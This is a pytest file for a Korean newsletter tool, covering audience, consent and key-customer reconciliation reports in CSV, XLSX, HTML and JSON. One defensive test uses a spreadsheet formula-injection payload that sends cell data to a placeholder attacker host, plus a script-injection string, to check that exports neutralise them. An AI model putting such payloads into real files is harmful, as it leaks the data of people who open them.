"""Tests of :mod:`generator.commands.steps.reports` and :mod:`generator.commands.steps.customer_reports`."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from lxml import html

from generator.commands.clean import clean
from generator.commands.context import begin
from generator.commands.steps.customer_reports import reconciliation_json, write_reconciliation
from generator.findings import Findings
from generator.journal import REPORTS
from generator.plan.customers.customer_history import Change, Hindsight, Past, Trend
from generator.plan.customers.reconciliation import Outcome, Reconciliation
from generator.plan.customers.states import VERDICTS
from tests.conftest import dangol
from tests.outcomes import outcome
from tests.people import ISSUE, LISTS, STOPS, at, exported, newsletter_in, table
from tests.trees import containing, tree

pytestmark = pytest.mark.slow  # whole exports, one after another

FILES = {
    f"{LISTS}/a.csv": "email,name,phone,status,consent_date\n"
                      "kim@people.example,김민수,010-0000-0001,,2024-12-01\n"
                      "KIM@people.example,김 민수,010-0000-0001,,\n"
                      "lee@people.example,이소라,010-0000-0002,unsubscribed,\nstop@people.example,정하린,,,\n"
                      "broken,한가람,,,\npark@people.example,박은별,,pending,2026-01-01\n",
    f"{STOPS}/s.yaml": "- stop@people.example\n- off@people.example\n",
    "subscribers/segments/vip.yaml": "title: 단골\nmembers: [{email: kim@people.example}]\n",
    "subscribers/key-customers/k.yaml": "- {name: 윤가람, email: key@people.example, owner: 서지안}\n",
    f"content/issues/{ISSUE}.md": "# 소식\n\n{{ subscriber.name | default(\"고객님\") }}\n\n/// only | vip\n값\n///\n"}
NAMES = ("people.example", "PEOPLE", "김민수", "이소라", "정하린", "한가람", "박은별", "윤가람", "010-0000")


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A newsletter, exported twice, accounted for and built."""
    root = newsletter_in(tmp_path_factory.mktemp("reports"), {**FILES, "newsletter.yaml": (
        "title: 단골 소식\nlanguage: ko\nbase_url: https://news.example.com/\njurisdictions: [kr]\n"
        "sender: {name: 한빛상사, email: hello@hanbit.example, address: 서울시 중구}\n")})
    exported(root, 19)
    exported(root, 20)
    for command in ("audience", "build", "check"):
        run = dangol(root, command)
        assert run.code == 0, run.err
        assert not [name for name in NAMES if name in run.out + run.err]
    return root


def test_every_report_is_there(root: Path) -> None:
    """Whole, and nothing half-written beside them."""
    there = {path.name for path in (root / "output/reports").iterdir()}
    assert there == {name for name in REPORTS if not name.startswith((
        "reconciliation.", "degradation.", "replies.", "occasions.", "brief.", "proposed-", "purchases.", "offers.",
        "own-choice.", "notes.", "choices.", "referrals."))}


def test_rows_and_conflicts(root: Path) -> None:
    """Every row that was not accepted with its place and reason, every value that gave way with what was kept."""
    rows = table(root / "output/reports/rows.csv")
    assert [(row["line"], row["address"], row["fate"], row["reason"]) for row in rows] == [
        ("2", "kim@people.example", "duplicate", "same address as a newer row"),
        ("3", "KIM@people.example", "duplicate", "same address as a newer row"),
        ("4", "lee@people.example", "suppressed", "unsubscribed"),
        ("5", "stop@people.example", "suppressed", "unsubscribed"), ("6", "broken", "invalid", "not an address")]
    assert table(root / "output/reports/conflicts.csv") == [
        {"list": f"{LISTS}/a.csv", "line": "2", "field": "name", "value": "김민수", "kept": "김 민수"}]


def test_consent_that_is_due(root: Path) -> None:
    """Who must be asked, and what to tell them."""
    assert [(row["email"], row["due"], row["overdue"]) for row in table(root / "output/reports/consent-due.csv")] == [
        ("kim@people.example", "2026-12-01", "")]
    assert "한빛상사" in (root / "output/reports/consent-notice.txt").read_text("utf-8")


def test_the_page_has_numbers_and_no_person(root: Path) -> None:
    """Lists, segments, reasons and growth, in a page that needs nothing from elsewhere."""
    text = (root / "output/reports/audience.html").read_text("utf-8")
    assert not [name for name in NAMES if name in text]
    page = html.document_fromstring(text)
    words = str(page.xpath("string()"))
    for told in ("a.csv", "vip", "단골", "소식", "2026"):
        assert told in words
    assert page.xpath("//svg | //*[local-name()='svg']")
    assert not page.xpath("//script | //link[@rel='stylesheet'] | //img[starts-with(@src, 'http')]")


def test_the_site_has_nothing_personal(root: Path) -> None:
    """Neither the site nor any mail but its recipients' file; nor the cache."""
    site = tree(root / "output/site")
    assert site
    assert not [path for name in NAMES for path in containing(site, name)]
    mail = {path: data for path, data in tree(root / "output/mail").items() if not path.endswith(".recipients.csv")}
    assert not [path for name in NAMES for path in containing(mail, name)]
    assert not containing(tree(root / ".dangol"), "people.example")


def test_what_is_due_no_more_goes_away(tmp_path: Path) -> None:
    """A list of people that is old is worse than none."""
    root = newsletter_in(tmp_path, {"newsletter.yaml": "title: 소식\njurisdictions: [kr]\n",
                                    f"{LISTS}/a.csv": "email,consent_date\na@x.example,2024-12-01\n"})
    assert dangol(root, "audience").code == 0
    (root / LISTS / "a.csv").write_text("email,consent_date\na@x.example,2026-11-01\n", "utf-8")
    assert dangol(root, "audience").code == 0
    assert {path.name for path in (root / "output/reports").iterdir()} == {
        "rows.csv", "conflicts.csv", "audience.html", "moments.html", "loyalty.html"}


RECONCILIATION = {f"reconciliation.{kind}" for kind in ("html", "csv", "xlsx", "json")}
FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
SCRIPT = "<script>alert(1)</script>\nnext"
CHANGES = tuple(Change(outcome(now, name=name, company="", owner=""), before) for name, before, now in (
    ("가", "reached", "bounced"), ("나", "", "missing"), ("다", "missing", "opted-out"),
    ("라", "typo", "reached-elsewhere"), ("마", "", "reached"), ("바", "reached", "reached-elsewhere")))
TREND = (Trend(date(2026, 10, 5), "2026-10", 1, 3), Trend(date(2026, 11, 5), ISSUE, 2, 3))


def reports(root: Path, *outcomes: Outcome, changes: tuple[Change, ...] | None = CHANGES,
            files: dict[str, str | bytes] | None = None) -> tuple[Path, Findings]:
    """The folder of reports after one run, and what was found."""
    newsletter_in(root, files or {})
    run = begin(at(root))
    write_reconciliation(run, Reconciliation(ISSUE, 100, outcomes), Hindsight(changes, TREND))
    return root / "output/reports", run.findings


def page(folder: Path) -> str:
    """The text of the page, spaces evened out."""
    return " ".join(str(html.fromstring((folder / "reconciliation.html").read_text("utf-8")).xpath("string()")).split())


def test_all_reports_are_written_and_cleaned(tmp_path: Path) -> None:
    """Whole, with nothing half-written beside them; `clean` removes them."""
    folder, findings = reports(tmp_path, *map(outcome, VERDICTS))
    assert {path.name for path in folder.iterdir()} == RECONCILIATION
    assert list(findings) == []
    assert clean(tmp_path, only_cache=False)["output/reports"] == 4
    assert list(folder.iterdir()) == []


def test_the_page_has_owners_changes_and_trend(tmp_path: Path) -> None:
    """Who gets less, who gets more, who stays as they were; issues by title; owners with nobody left out last."""
    folder, _ = reports(tmp_path, outcome("reached", owner="가영"), outcome("missing", owner="나래"))
    text = page(folder)
    assert "새로 빠지는 분 2 가 받음 → 반송 나 새 주요 고객 → 명단에 없음" in text
    assert "새로 받는 분 2 라 주소 오타 → 다른 주소로 받음 마 새 주요 고객 → 받음" in text
    assert "‘첫 소식’" in text
    assert "첫 소식2026-11-05" in text
    assert text.index("나래 1명 중") < text.index("가영 1명이 모두")
    assert "처음 점검" in page(reports(tmp_path, outcome("missing"), changes=None)[0])


def test_the_table_opens_in_korean_excel(tmp_path: Path) -> None:
    """UTF-8 with a byte order mark, a row a customer, in words, the worst first."""
    folder, _ = reports(tmp_path, *map(outcome, VERDICTS))
    data = (folder / "reconciliation.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbftier,owner,id,name,")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [row["verdict"] for row in rows][::10] == ["opted-out", "reached"]
    assert (rows[0]["name"], rows[0]["action"]) == ("김민수", "메일을 보내지 마세요. 전화로 연락하세요.")


def test_the_workbook_has_what_puts_it_right(tmp_path: Path) -> None:
    """All, and rows to add, to correct, to call."""
    folder, _ = reports(tmp_path, *map(outcome, VERDICTS), outcome("missing"))
    book = openpyxl.load_workbook(folder / "reconciliation.xlsx")
    assert {sheet.title: sheet.max_row - 1 for sheet in book} == {
        "all": 12, "add": 2, "correct": 1, "correct_key_list": 0, "call": 2, "past": 0}
    assert [cell.value for cell in book["add"][1]] == [
        "email", "name", "company", "phone", "consent_date", "consent_source", "note"]
    assert [book["add"].cell(2, column).value for column in (5, 6, 7)] == [None, None, "수신동의를 받아야 함"]


def test_programs_get_the_contract(tmp_path: Path) -> None:
    """The same object as `--json`."""
    told = [outcome("missing"), outcome("reached", subscriber="a@x.example", basis=("address",))]
    folder, findings = reports(tmp_path, *told)
    found = json.loads((folder / "reconciliation.json").read_text("utf-8"))
    now = reconciliation_json(Reconciliation(ISSUE, 100, tuple(told)), Past(), findings)
    assert found == json.loads(json.dumps(now))
    assert [customer["subscriber"] for customer in found["customers"]] == [None, "a@x.example"]
    assert (found["issue"], found["subscribers"], found["verdicts"]["missing"]) == (ISSUE, 100, 1)


@pytest.mark.parametrize("verdict", VERDICTS)
@pytest.mark.parametrize("value", [FORMULA, SCRIPT])
def test_nothing_that_a_list_contains_runs(tmp_path: Path, verdict: str, value: str) -> None:
    """No formula in the CSV or the XLSX, no markup in the page."""
    folder, _ = reports(tmp_path, outcome(verdict, id=value, name=value, company=value, email=value, phone=value,
                                          tier=value, owner=value, subscriber=value, basis=("name",)))
    rows = list(csv.reader(io.StringIO((folder / "reconciliation.csv").read_bytes().decode("utf-8-sig"))))
    assert [len(row) for row in rows] == [13, 13]
    assert not [cell for cell in rows[1] if cell.startswith("=") or "\n" in cell]
    book = openpyxl.load_workbook(folder / "reconciliation.xlsx")
    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value} == {"s"}
    tree = html.fromstring((folder / "reconciliation.html").read_text("utf-8"))
    assert tree.xpath("//script | //a[not(starts-with(@href, '#'))]") == []


def test_nobody(tmp_path: Path) -> None:
    """Without key customers every report is there, and says so."""
    folder, _ = reports(tmp_path)
    assert "아직 주요 고객 명단이 없습니다." in page(folder)
    assert (folder / "reconciliation.csv").read_bytes().count(b"\r\n") == 1
    assert [sheet.max_row for sheet in openpyxl.load_workbook(folder / "reconciliation.xlsx")] == [1] * 6


def test_a_template_that_fails_is_reported(tmp_path: Path) -> None:
    """The tables are written all the same."""
    folder, findings = reports(tmp_path, outcome("missing"), files={
        "templates/reports/reconciliation.html": "{{ nothing }}"})
    assert {path.name for path in folder.iterdir()} == RECONCILIATION - {"reconciliation.html"}
    assert [finding.code for finding in findings] == ["template"]


def test_many_customers_are_quick(tmp_path: Path) -> None:
    """Three thousand key customers in all four reports."""
    many = [outcome(VERDICTS[number % 10], id=str(number), owner=str(number % 30)) for number in range(3_000)]
    start = time.process_time()
    reports(tmp_path, *many)
    assert time.process_time() - start < 6
